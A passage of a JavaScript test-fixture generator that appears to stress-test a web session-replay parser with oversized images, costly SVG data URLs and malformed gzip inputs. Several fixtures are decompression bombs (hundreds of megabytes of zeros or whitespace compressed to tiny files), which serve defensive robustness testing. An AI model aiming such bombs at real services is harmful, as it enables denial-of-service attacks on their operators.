          [el('style', {}, [text(css, { isStyle: true })])],
        ),
        scrolled,
        end,
      ),
    ),
    recording(
      'a picture of a house’s size, twenty times',
      meta,
      snapshot(
        Array.from({ length: 20 }, (_, n) => {
          const src = pngOf(20_000, 20_000, { mark: String(n) });
          return el('img', { src, width: '40', height: '40' });
        }),
      ),
      scrolled,
      end,
    ),
    recording(
      'a picture of many pixels, sixty times',
      meta,
      snapshot(
        Array.from({ length: 60 }, (_, n) => {
          const src = pngOf(4000, 4000, { mark: String(n) });
          const square = { width: '40', height: '40' };
          return n % 3 === 0
            ? el('canvas', { width: '4000', height: '4000', rr_dataURL: src, style: 'width:40px;height:40px' })
            : el('img', { src, ...square });
        }),
      ),
      scrolled,
      end,
    ),
    ...costlyDrawings().flatMap(([name, drawing]) =>
      [
        `data:image/svg+xml,${encodeURIComponent(drawing)}`,
        `data:image/svg+xml;base64,${Buffer.from(drawing).toString('base64')}`,
      ].flatMap((address, n) => {
        const spelling = n === 0 ? 'in percents' : 'in base64';
        const shapes = [
          el('img', { src: address, width: '400', height: '400' }),
          el('div', { style: `width:400px;height:400px;background:url("${address}")` }),
          el('div', { style: `width:400px;height:400px;-webkit-mask-image:url("${address}");background:red` }),
        ];
        const page = snapshot([el('main', {}, shapes)]);
        return [recording(`a picture of ${name}, ${spelling}`, meta, page, scrolled, end)];
      }),
    ),
    bytes('nothing', Buffer.alloc(0)),
    bytes('no gzip', Buffer.from(JSON.stringify([meta, ordinary(), end]))),
    bytes('a gzip of nothing', gzipSync('')),
    bytes('a gzip of no JSON', gzipSync('{"type":')),
    bytes('a gzip that is cut off', packed([meta, ordinary(), end]).subarray(0, 200)),
    bytes('a gzip with a wrong sum', Buffer.concat([packed([meta, ordinary(), end]).subarray(0, -8), Buffer.alloc(8)])),
    bytes('a gzip in a gzip', gzipSync(packed([meta, ordinary(), end]))),
    bytes('two gzips', Buffer.concat([packed([meta]), packed([ordinary(), end])])),
    bytes('a bomb', gzipSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 })),
    bytes('a bomb of JSON', gzipSync(`[${' '.repeat(64 * 1024 * 1024)}]`, { level: 9 })),
    bytes('not of this alphabet', gzipSync(Buffer.from([0xff, 0xfe, 0x5b, 0x00, 0xd8, 0x00, 0x5d]))),
    bytes(
      'many bombs',
      Buffer.concat(Array.from({ length: 40 }, () => gzipSync(Buffer.alloc(4 * 1024 * 1024), { level: 9 }))),
    ),
  ];
}
